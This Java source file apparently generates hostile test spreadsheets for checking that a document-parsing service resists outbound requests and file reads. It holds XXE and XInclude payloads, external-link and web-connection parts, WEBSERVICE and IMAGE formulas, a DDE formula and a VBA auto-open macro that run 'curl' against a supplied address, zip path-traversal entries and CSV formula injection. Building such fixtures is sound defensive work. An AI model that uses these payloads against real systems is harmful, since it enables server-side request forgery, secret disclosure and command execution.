package no.barometer.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.usermodel.HSSFHyperlink;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Sheet;

/** Deliveries that name an address or a file elsewhere in every way that formats know. */
final class Reaching {
    private static final String EXTERNAL =
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='r0'"
                    + " Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s' Target='%s'"
                    + " TargetMode='External'/></Relationships>";

    private Reaching() {}

    /** @param address of a server @param file URL of a secret */
    static Map<String, byte[]> deliveries(String address, String file) throws IOException {
        Map<String, byte[]> all = new TreeMap<>();
        all.put("dtd.xlsx", sheet(xml -> "<!DOCTYPE worksheet SYSTEM '" + address + "a.dtd'>" + xml));
        all.put(
                "entity.xlsx",
                sheet(xml ->
                        "<!DOCTYPE worksheet [<!ENTITY x SYSTEM '" + file + "'>]>" + xml.replace("Fjernsyn", "&x;")));
        all.put(
                "parameter-entity.xlsx",
                sheet(xml -> "<!DOCTYPE worksheet [<!ENTITY % x SYSTEM '" + address + "'> %x;]>" + xml));
        all.put(
                "schema.xlsx",
                sheet(xml -> xml.replace(
                        "<worksheet ",
                        "<worksheet" + " xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='"
                                + address + " " + address + "' ")));
        all.put(
                "include.xlsx",
                sheet(xml -> xml.replace(
                        "<sheetData>",
                        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + file + "'/><sheetData>")));
        all.put("stylesheet.xlsx", sheet(xml -> "<?xml-stylesheet type='text/xsl' href='" + address + "'?>" + xml));
        all.put(
                "sheet-elsewhere.xlsx",
                Parts.xlsx(parts -> parts.put(
                        "xl/_rels/workbook.xml.rels", EXTERNAL.formatted("worksheet", address + "sheet.xml"))));
        all.put(
                "sheet-in-a-file.xlsx",
                Parts.xlsx(parts -> parts.put(
                        "xl/_rels/workbook.xml.rels",
                        EXTERNAL.formatted("worksheet", file).replace(" TargetMode='External'", ""))));
        all.put("linked-workbook.xlsx", Parts.xlsx(parts -> {
            parts.put("xl/externalLinks/externalLink1.xml", "<externalLink xmlns='" + Parts.MAIN + "'/>");
            parts.put(
                    "xl/externalLinks/_rels/externalLink1.xml.rels",
                    EXTERNAL.formatted("externalLinkPath", address + "b.xlsx"));
            parts.computeIfPresent(
                    Parts.SHEET, (name, xml) -> xml.replace("<v>41</v>", "<f>'[1]Ark1'!A1</f><v>41</v>"));
        }));
        all.put(
                "connection.xlsx",
                Parts.xlsx(parts -> parts.put(
                        "xl/connections.xml",
                        "<connections xmlns='" + Parts.MAIN
                                + "'><connection id='1' refreshOnLoad='1' type='4'><webPr url='" + address
                                + "'/></connection></connections>")));
        all.put("webservice.xlsx", formula("_xlfn.WEBSERVICE(\"" + address + "\")"));
        all.put("image.xlsx", formula("_xlfn.IMAGE(\"" + address + "\")"));
        all.put("dde.xlsx", formula("cmd|'/c curl " + address + "'!A1"));
        all.put("hyperlink.xlsx", Parts.xlsx(parts -> {
            parts.put("xl/worksheets/_rels/sheet1.xml.rels", EXTERNAL.formatted("hyperlink", address));
            parts.computeIfPresent(
                    Parts.SHEET,
                    (name, xml) -> xml.replace(
                            "</sheetData>",
                            "</sheetData><hyperlinks><hyperlink ref='A1' r:id='r0' xmlns:r='http://x'/></hyperlinks>"));
        }));
        all.put("macro.xlsm", Parts.xlsx(parts -> {
            parts.put("xl/vbaProject.bin", "Attribute VB_Name = \"x\" Sub Auto_Open() Shell \"curl " + address + "\"");
            parts.put(
                    "customUI/customUI.xml",
                    "<customUI onLoad='Auto_Open' xmlns='http://schemas.microsoft.com/office/2006/01/customui'/>");
        }));
        all.put(
                "object.xlsx",
                Parts.xlsx(parts -> parts.put("xl/embeddings/oleObject1.bin", "\u00d0\u00cf\u0011\u00e0 MZ")));
        all.put("names-out.xlsx", Parts.xlsx(parts -> {
            parts.put("../../../secret/evil.csv", "x");
            parts.put("/tmp/evil.csv", "x");
            parts.put("..\\..\\evil.csv", "x");
        }));
        all.put("linked.xls", xls(address));
        all.put(
                "formula.csv",
                ("Medium;2019;2020\nFjernsyn;40;41\n\"=WEBSERVICE(\"\"" + address + "\"\")\";1;2\n")
                        .getBytes(StandardCharsets.UTF_8));
        return all;
    }

    private static byte[] sheet(java.util.function.UnaryOperator<String> change) throws IOException {
        return Parts.xlsx(parts -> parts.computeIfPresent(Parts.SHEET, (name, xml) -> change.apply(xml)));
    }

    private static byte[] formula(String formula) throws IOException {
        Consumer<Map<String, String>> change = parts -> parts.computeIfPresent(
                Parts.SHEET,
                (name, xml) -> xml.replace("<v>41</v>", "<f>" + formula.replace("&", "&amp;") + "</f><v>41</v>"));
        return Parts.xlsx(change);
    }

    private static byte[] xls(String address) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
            Sheet sheet = Sheets.fill(workbook.createSheet("Tabell 1"));
            HSSFHyperlink link = workbook.getCreationHelper().createHyperlink(HyperlinkType.URL);
            link.setAddress(address);
            sheet.getRow(1).getCell(0).setHyperlink(link);
            workbook.write(bytes);
        }
        return bytes.toByteArray();
    }
}
